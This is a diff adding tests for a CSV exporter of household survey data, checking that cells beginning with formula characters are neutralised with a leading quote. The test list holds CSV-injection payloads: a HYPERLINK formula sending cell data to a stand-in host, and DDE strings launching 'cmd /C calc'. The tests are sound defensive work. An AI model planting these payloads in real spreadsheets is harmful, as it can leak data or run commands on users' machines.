@@ -185,3 +185,42 @@ def test_hundred_thousand_rows_are_all_written():
     assert write_csv(Sheet("households", columns, rows()), csv_out) == n
     lines = csv_out.getvalue().decode("utf-8-sig").splitlines()
     assert len(lines) == n + 1 and lines[-1] == f"522601-{n - 1:06d},龙泉村,{n - 1}"
+
+
+FORMULA_CELLS = [
+    '=HYPERLINK("http://x.example/?d="&A1,"点击")',
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "%0A=1+1",
+    "|calc",
+]
+
+
+@pytest.mark.parametrize("cell", FORMULA_CELLS)
+def test_csv_cells_a_spreadsheet_would_run_start_with_a_quote(cell):
+    out = io.BytesIO()
+    write_csv(Sheet("households", HOUSEHOLD_COLUMNS, [("H1", cell, "exited", 1, 2, cell)]), out)
+    read = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"), newline="")))
+    for value in (read[1][1], read[1][5]):
+        # Shown as text; nothing lost (defusedcsv also escapes a pipe, the DDE separator).
+        assert value.startswith("'") and value[1:].replace("\\|", "|") == cell
+
+
+def test_csv_numbers_and_signed_number_text_stay_numbers():
+    out = io.BytesIO()
+    rows = [("-12", "-3.5", "exited", -3200.25, -1, "1,234.5"), ("H2", "村", "exited", 0, 2.5, "")]
+    write_csv(Sheet("households", HOUSEHOLD_COLUMNS, rows), out)
+    read = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"))))
+    assert read[1] == ["-12", "-3.5", "exited", "-3200.25", "-1", "1,234.5"]
+    assert read[2] == ["H2", "村", "exited", "0", "2.5", ""]
+
+
+def test_codebook_csv_neutralises_labels_too():
+    columns = (Column("x", "=1+1", "@label", "-values+1"),)
+    out = io.BytesIO()
+    write_codebook_csv([Sheet("households", columns, [])], out)
+    read = list(csv.reader(io.StringIO(out.getvalue().decode("utf-8-sig"))))
+    assert read[1] == ["households", "x", "'=1+1", "'@label", "'-values+1"]
